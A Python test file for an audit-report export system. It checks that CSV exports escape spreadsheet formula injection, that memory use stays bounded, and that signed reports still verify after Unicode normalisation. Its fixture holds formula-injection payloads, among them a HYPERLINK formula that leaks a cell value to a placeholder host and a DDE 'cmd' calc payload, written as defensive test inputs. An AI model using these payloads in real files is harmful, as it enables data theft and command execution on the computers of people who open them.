"""Adversarial review of the audit report exports (helper-216): what a spreadsheet runs, what
the running run's exports and the report page hold in memory, and what the signatures cover."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import uuid
from collections.abc import Callable
from typing import Any

from sqlalchemy import text
from sqlalchemy.orm import Session

from models import report_pages
from models.audit import FindingRow
from models.audit_chunks import pending_chunks
from models.audit_close import summarize_run
from models.audit_tables import AuditChunk, AuditRun
from models.report_view import report_view
from models.report_reads import report_payload
from models.reports import checked_csv, export_report
from tests.report_builders import build_report, findings_csv
from tests.test_audit_record_signed import _started, _steps, written_by_plant

API = "/api/v1"

# Blanks a spreadsheet may trim before it looks for a formula (LibreOffice's "Trim spaces",
# Google Sheets), then a formula character, in each text column a row INSERTed through SQL
# chooses; and the full-width forms Excel takes for the ASCII ones under an East Asian IME.
BLANK_LED = [
    {"entity_type": " =1+2", "code": "\u00a0@SUM(A1)", "severity": "\n+1", "rule_id": "\u200b-1+2",
     "detail": ' =HYPERLINK("http://x.invalid/?"&A1,"ok")'},
    {"code": "forged-2", "detail": "\u3000\uff1d1+1"},
    {"code": "forged-3", "detail": "\ufe62cmd|' /C calc'!A0"},
    {"code": "forged-4", "detail": "\u2028\uff20SUM(1)"},
]


def _forged_run(engine: Any, keyring: Any, forged: list[dict[str, Any]]) -> uuid.UUID:
    """A run over the industries closed by Plant, holding ``forged`` findings (any column)
    INSERTed through SQL while it ran: left out of its counts, listed in every export."""
    with Session(engine) as session, session.begin():
        run = _started(session, keyring, {"scope": {"entity_type": "industry"}})
        for row in forged:
            values = {"entity_type": None, "version": None, "severity": "critical", "rule_id": None, **row}
            session.execute(text(
                "INSERT INTO audit_findings (run_id, entity_type, version, code, severity, rule_id, detail) "
                "VALUES (:run, :entity_type, :version, :code, :severity, :rule_id, :detail)"), {"run": run.id, **values})
        _steps(session, run, keyring, batch_size=500)
        summarize_run(session, run_id=run.id, keyring=keyring)
        return run.id


def test_a_csv_cell_that_reads_as_a_formula_after_leading_blanks_is_written_as_text(
        client, engine, keyring, seeded) -> None:
    run_id = _forged_run(engine, keyring, BLANK_LED)
    response = client.get(f"{API}/audit/export", query_string={"run_id": str(run_id), "format": "csv"})
    assert response.status_code == 200, response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    forged = [row for row in rows if row["counted"] == "no"]
    assert len(forged) == len(BLANK_LED)
    columns = ("entity_type", "code", "severity", "rule_id", "detail")
    for row, written in zip(sorted(forged, key=lambda r: int(r["finding_id"])), BLANK_LED, strict=True):
        for column in set(columns) & set(written):
            plain = written[column].startswith("forged")
            assert row[column] == ("" if plain else "'") + written[column], (column, row[column])
    # Plant's own cells are left as they are, and the CSV is still its signed report's.
    assert all(not row["detail"].startswith("'") for row in rows if row["counted"] == "yes")


def _peak(work: Callable[[], Any]) -> tuple[int, Any]:
    """Peak Python memory (tracemalloc) of ``work``, after a first call to warm caches, and its result."""
    work()
    tracemalloc.start()
    try:
        result = work()
        return tracemalloc.get_traced_memory()[1], result
    finally:
        tracemalloc.stop()


def test_a_running_run_s_exports_and_page_hold_a_page_of_findings_as_a_finished_run_s_do(
        engine, keyring, seeded, monkeypatch) -> None:
    """A running run's JSON and CSV exports, and the report page of any run, were built from
    every finding as Python objects (some 1.6 kB each: 80 MB of the process for a running run
    of 50,000 findings, 100 MB for its page), while a finished run's exports held a page at a
    time and the report's bytes. Measured as ratios in one test: 5,000 findings on 50 entities
    in pages of 100 stand for many more in pages of 1,000."""
    monkeypatch.setattr(report_pages, "PAGE_FINDINGS", 100)
    entities = [uuid.uuid4() for _ in range(50)]
    with Session(engine) as session, session.begin():
        run = _started(session, keyring, {"scope": {"entity_type": "industry"}})
        chunk = session.get(AuditChunk, pending_chunks(session, run.id)[0])
        written_by_plant(session, run, chunk, keyring, [
            FindingRow("industry", entities[n % 50], 1, "rule-warning", f"finding {n} of many, caf\u00e9")
            for n in range(5_000)])
        run_id = run.id
    with Session(engine) as session:
        running_json, document = _peak(lambda: export_report(session, run_id=run_id, keyring=keyring))
        running_csv, _ = _peak(lambda: sum(map(len, checked_csv(session, run_id=run_id, keyring=keyring).parts(session))))
        written = findings_csv(session, run_id=run_id, keyring=keyring)
        running_page, view = _peak(lambda: report_view(session, run_id=run_id, keyring=keyring))
        session.rollback()
    report = json.loads(document)["report"]
    assert report["run"]["status"] == "running" and len(report["findings"]) == 5_000
    with Session(engine) as session:  # byte for byte the report as a dict of every finding
        whole = report_payload(build_report(session, run_id=run_id, keyring=keyring))
    assert document[len(b'{"report":'):document.rindex(b',"signature":')] == whole
    assert len(written.splitlines()) == 5_001 and view.entities_with_findings == 50 and view.figures["findings"] == 5_000
    with Session(engine) as session, session.begin():
        _steps(session, session.get(AuditRun, run_id), keyring, batch_size=500)
        summarize_run(session, run_id=run_id, keyring=keyring)
    with Session(engine) as session:
        finished_json, _ = _peak(lambda: export_report(session, run_id=run_id, keyring=keyring))
        session.rollback()
    assert running_json < 1.3 * finished_json, (running_json, finished_json)  # the report's bytes, and a page
    assert running_csv < 2 * len(written), (running_csv, len(written))  # its text (sent as it is), and a page
    assert running_page < 1.5 * finished_json, (running_page, finished_json)  # the report's bytes, and a tally


def test_a_formula_cell_whose_text_nfc_respells_still_verifies_against_the_signed_report(
        client, engine, keyring, seeded) -> None:
    """The report holds its text NFC-normalised, and ``plant report verify --csv`` remakes the
    CSV from it: "=" followed by a combining long solidus (U+0338) is "≠" in NFC. The export
    saw "=" and wrote the apostrophe, the check saw "≠" and did not: the genuine CSV of any run
    holding such a row (one INSERT through SQL) failed its check against its own signed report."""
    from models.report_csv import csv_problem
    from models.reports import verify_report_document

    run_id = _forged_run(engine, keyring, [{"code": "forged-nfc", "detail": "=\u0338 1+1"},
                                           {"code": "forged-composed", "detail": "\u2260 1+1"}])
    exported = {fmt: client.get(f"{API}/audit/export", query_string={"run_id": str(run_id), "format": fmt})
                for fmt in ("json", "csv")}
    assert all(response.status_code == 200 for response in exported.values())
    report = verify_report_document(exported["json"].get_data(), keyring).report
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(exported["csv"].get_data(as_text=True), newline=""))}
    assert rows["forged-nfc"]["detail"] == "'=\u0338 1+1"  # a spreadsheet reads the "=" first
    assert csv_problem(exported["csv"].get_data(), report) is None
